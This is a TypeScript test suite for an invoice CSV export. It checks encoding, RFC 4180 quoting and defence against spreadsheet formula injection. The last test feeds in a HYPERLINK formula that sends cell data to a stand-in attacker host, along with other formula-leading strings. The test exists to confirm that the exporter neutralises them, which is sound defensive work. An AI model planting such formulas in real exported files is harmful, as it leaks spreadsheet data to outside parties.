import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, invoicesCsv } from "./csv.ts";
import { sampleInvoice } from "./sample.ts";

/** A small RFC 4180 reader to check what an accounting import would see. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let f = "";
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        f += '"';
        i++;
      } else if (c === '"') q = false;
      else f += c;
    } else if (c === '"') q = true;
    else if (c === ",") {
      row.push(f);
      f = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(f);
      rows.push(row);
      row = [];
      f = "";
      i++;
    } else f += c;
  }
  return rows;
}

describe("invoice CSV export", () => {
  it("is UTF-8 with a BOM and CRLF, one row per line plus one per tax rate", () => {
    const docs = [sampleInvoice(0, 6), sampleInvoice(1, 2)];
    const csv = invoicesCsv(docs);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replace(/\r\n/g, "")).not.toMatch(/\n/);
    const rows = parse(csv.slice(1));
    expect(rows[0]).toEqual(CSV_COLUMNS.map(([n]) => n));
    const col = (name: string) => rows[0]!.indexOf(name);
    const body = rows.slice(1);
    expect(body.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const first = body.filter((r) => r[col("invoice_number")] === "INV-2026-000001");
    expect(first.filter((r) => r[col("record_type")] === "line")).toHaveLength(6);
    const tax = first.filter((r) => r[col("record_type")] === "tax");
    expect(tax.map((r) => [r[col("tax_category")], r[col("amount")], r[col("consumption_tax")]])).toEqual(
      docs[0]!.totals.byRate.map((b) => [b.category, String(b.net), String(b.tax)]),
    );
    // Line amounts add up to the invoice's net.
    const net = first
      .filter((r) => r[col("record_type")] === "line")
      .reduce((s, r) => s + Number(r[col("amount")]), 0);
    expect(net).toBe(docs[0]!.totals.net);
    expect(first[0]![col("issuer_registration_number")]).toBe("T8000000000001");
  });

  it("quotes commas, quotes and newlines in descriptions", () => {
    const doc = sampleInvoice(0, 1);
    doc.lines[0] = { ...doc.lines[0]!, description: '作業, "緊急"\n対応' };
    const rows = parse(invoicesCsv([doc]).slice(1));
    expect(rows[1]![rows[0]!.indexOf("description")]).toBe('作業, "緊急"\n対応');
  });

  it("writes these exact bytes: BOM, CRLF after every row, only fields with a comma, quote, CR or LF quoted", () => {
    const doc = sampleInvoice(0, 2);
    doc.lines[0] = { ...doc.lines[0]!, itemCode: "", description: ' 作業, "緊急"\r\n対応 ', quantity: 0 };
    doc.lines[1] = { ...doc.lines[1]!, description: "=SUM(A1)\ttab;semi\rCR only\nLF only" };
    doc.recipient.name = '株式会社 "カンマ", 商事';
    const draft = sampleInvoice(1, 1, "draft");
    const head = "2026-11-24,2026-12-31,2026-11,2026-11-01,2026-11-30,1010001000006";
    // The void, replacement, credit and return columns are empty on an issued invoice and a draft.
    const tail = "90000,9000,99000,T8000000000001,,,,,,,";
    const draftHead = ",2026-12-31,2026-11,2026-11-01,2026-11-30,1010001000006";
    const draftTail = "80000,8000,88000,T8000000000001,,,,,,,";
    expect(invoicesCsv([doc, draft])).toBe(
      `\uFEFF${[
        CSV_COLUMNS.map(([n]) => n).join(","),
        `line,INV-2026-000001,issued,regular,,${head},"株式会社 ""カンマ"", 商事",C-2026-000001,1,,` +
          `" 作業, ""緊急""\r\n対応 ",monthly,10,10,0,80000,80000,,29(1),${tail}`,
        `line,INV-2026-000001,issued,regular,,${head},"株式会社 ""カンマ"", 商事",C-2026-000001,2,option-backup,` +
          `"'=SUM(A1)\ttab;semi\rCR only\nLF only",monthly,10,10,1,10000,10000,,29(1),${tail}`,
        `tax,INV-2026-000001,issued,regular,,${head},"株式会社 ""カンマ"", 商事",C-2026-000001,,,10%対象,,10,10,,,90000,9000,34,${tail}`,
        `line,,draft,regular,,${draftHead},株式会社サンプル商事 第1営業部,C-2026-000002,1,monthly-standard,` +
          `運用支援サービス スタンダード 月額,monthly,10,10,1,80000,80000,,29(1),${draftTail}`,
        `tax,,draft,regular,,${draftHead},株式会社サンプル商事 第1営業部,C-2026-000002,,,10%対象,,10,10,,,80000,8000,34,${draftTail}`,
      ].join("\r\n")}\r\n`,
    );
    expect(invoicesCsv([])).toBe(`\uFEFF${CSV_COLUMNS.map(([n]) => n).join(",")}\r\n`);
  });

  it("quotes any text by RFC 4180 (a field is quoted iff it has a comma, quote, CR or LF; quotes doubled)", () => {
    const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
    const rfc4180 = (raw: string) => {
      const s = safe(raw);
      return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
    };
    const text = fc.string({
      unit: fc.constantFrom(
        '"',
        ",",
        "\r",
        "\n",
        " ",
        "\t",
        ";",
        "=",
        "+",
        "-",
        "@",
        "'",
        "a",
        "漢",
        "ｶ",
        "\uFEFF",
      ),
      maxLength: 12,
    });
    const csvWith = (description: string, name: string) => {
      const doc = sampleInvoice(0, 1);
      doc.lines[0] = { ...doc.lines[0]!, description };
      doc.recipient.name = name;
      return invoicesCsv([doc]);
    };
    const template = csvWith("<<description>>", "<<name>>");
    fc.assert(
      fc.property(text, text, (description, name) => {
        expect(csvWith(description, name)).toBe(
          template
            .replace("<<description>>", () => rfc4180(description))
            .replaceAll("<<name>>", () => rfc4180(name)),
        );
      }),
    );
  });

  it("writes no cell a spreadsheet would run as a formula (OWASP CSV injection), and leaves amounts as numbers", () => {
    const doc = sampleInvoice(0, 4);
    doc.recipient.name = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")';
    doc.lines[0] = { ...doc.lines[0]!, description: "+81 3 1234 5678" };
    doc.lines[1] = { ...doc.lines[1]!, description: "@SUM(1+1)" };
    doc.lines[2] = { ...doc.lines[2]!, description: "\t=1+2", amount: -5000, unitPrice: -5000 };
    doc.lines[3] = { ...doc.lines[3]!, description: "-2+3" };
    const rows = parse(invoicesCsv([doc]).slice(1));
    const col = (name: string) => rows[0]!.indexOf(name);
    const lines = rows.slice(1).filter((r) => r[col("record_type")] === "line");
    expect(lines[0]![col("recipient_name")]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"詳細")`);
    expect(lines.map((r) => r[col("description")])).toEqual([
      "'+81 3 1234 5678",
      "'@SUM(1+1)",
      "'\t=1+2",
      "'-2+3",
    ]);
    expect(lines[2]![col("amount")]).toBe("-5000");
    // No cell of the whole file starts with a formula character.
    expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-\D/.test(c))).toEqual([]);
  });
});
